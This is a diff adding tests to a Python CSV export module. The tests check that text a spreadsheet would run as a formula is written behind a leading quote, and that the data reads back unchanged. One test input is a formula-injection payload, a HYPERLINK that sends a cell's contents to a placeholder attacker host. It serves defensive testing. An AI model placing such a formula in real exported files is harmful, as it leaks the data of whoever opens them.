@@ -7,7 +7,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from fairhear.interchange.cells import CellError, Column, Kind, format_cell, parse_cell
+from fairhear.interchange.cells import (
+    FORMULA_STARTS,
+    CellError,
+    Column,
+    Kind,
+    format_cell,
+    parse_cell,
+)
 from fairhear.interchange.format import SPECS, Table, parse_tables
 
 
@@ -84,3 +91,45 @@ def test_a_missing_contacts_file_is_an_error() -> None:
     assert [str(problem) for problem in problems] == [
         "contacts.csv:1:: the case file needs this file"
     ]
+
+
+# ---------------------------------------------------------------------------- formulas
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://evil.example/?x="&B2,"Open case notes")', "+1", "-2", "@SUM(A1)", "\tx"],
+)
+def test_text_that_a_spreadsheet_would_run_is_written_after_a_quote(text: str) -> None:
+    assert format_cell(Column("summary"), text) == f"'{text}"
+    assert format_cell(Column("categories", Kind.NAMES), (text, "Delay")) == f"'{text};Delay"
+
+
+def test_a_negative_number_stays_a_number() -> None:
+    column = Column("value", Kind.NUMBER)
+
+    assert format_cell(column, Decimal("-3.5")) == "-3.50"
+    assert parse_cell(column, "-3.5") == Decimal("-3.5")
+
+
+@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\rab ;")), min_size=1))
+def test_text_reads_back_as_written_whatever_it_starts_with(text: str) -> None:
+    column = Column("summary")
+    written = format_cell(column, text.strip())
+
+    assert not written.startswith(FORMULA_STARTS)
+    assert parse_cell(column, written) == text.strip()
+
+
+def test_a_quote_the_export_did_not_add_is_kept() -> None:
+    assert parse_cell(Column("summary"), "'tis the season") == "'tis the season"
+    assert parse_cell(Column("summary"), "'=1+1") == "=1+1"
+
+
+def test_a_nul_byte_is_refused_where_it_is() -> None:
+    table = Table("contacts", ["reference", "received", "route", "summary"], [])
+    table.rows = [["C-1", "2023-05-02", "statutory", "bad\x00text"]]
+
+    _, problems = parse_tables({"contacts": table})
+
+    assert [str(problem)[:34] for problem in problems] == ["contacts.csv:2:summary: the cell h"]
